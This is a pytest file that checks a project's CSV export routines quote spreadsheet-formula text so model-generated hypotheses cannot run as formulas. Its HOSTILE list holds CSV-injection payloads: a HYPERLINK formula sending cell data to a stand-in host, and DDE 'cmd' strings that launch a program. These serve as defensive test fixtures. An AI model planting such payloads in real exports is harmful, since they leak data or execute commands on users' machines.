"""Text a spreadsheet would run as a formula is neutralised in every CSV export (issue 23,
item 15): a model's hypothesis ``=HYPERLINK(...)`` must not land verbatim in sessions.csv."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from collabsim.experiment import job as job_module

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_leading_text_is_quoted(text):
    from collabsim.core.csvsafe import safe_cell

    assert safe_cell(text) == "'" + text


def test_numbers_and_plain_text_are_left_alone():
    from collabsim.core.csvsafe import safe_cell

    for value in (-0.5, 3, "-0.5", "1e-3", "-", "plain hypothesis", "", None, float("nan")):
        out = safe_cell(value)
        assert out is value or out == value or (out != out and value != value)


def test_job_tables_neutralise_a_hostile_hypothesis(tmp_path):
    sessions = pd.DataFrame({
        "task_id": ["t/0/0", "t/1/0"],
        "hypothesis": [HOSTILE[0], "Axes peak around 3200 BCE."],
        "Performance": [-0.25, 1.0],
    })
    aggregate = pd.DataFrame({"team": ["=D"], "Performance_mean": [0.5]})
    job_module._write_tables(tmp_path, sessions, aggregate, "report")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "sessions.csv").read_text())))
    assert rows[0]["hypothesis"] == "'" + HOSTILE[0]
    assert rows[1]["hypothesis"] == "Axes peak around 3200 BCE."
    assert [r["Performance"] for r in rows] == ["-0.25", "1.0"]  # numbers unchanged
    assert "'=D" in (tmp_path / "aggregate.csv").read_text()


def test_kolab_report_csv_neutralises_predictions(tmp_path):
    from collabsim.kolab import report as kolab_report

    kolab_report._write_csv(tmp_path / "p.csv", ("raw", "n"), [{"raw": "=1+2", "n": -3}])
    assert (tmp_path / "p.csv").read_text().splitlines()[1] == "'=1+2,-3"


def test_safe_frame_leaves_numeric_columns_untouched():
    from collabsim.core.csvsafe import safe_frame

    frame = pd.DataFrame({"x": [-1.5, 2.0], "s": ["-x", "ok"]})
    out = safe_frame(frame)
    assert out["x"].tolist() == [-1.5, 2.0] and out["s"].tolist() == ["'-x", "ok"]
    assert frame["s"].tolist() == ["-x", "ok"]  # the input is not modified
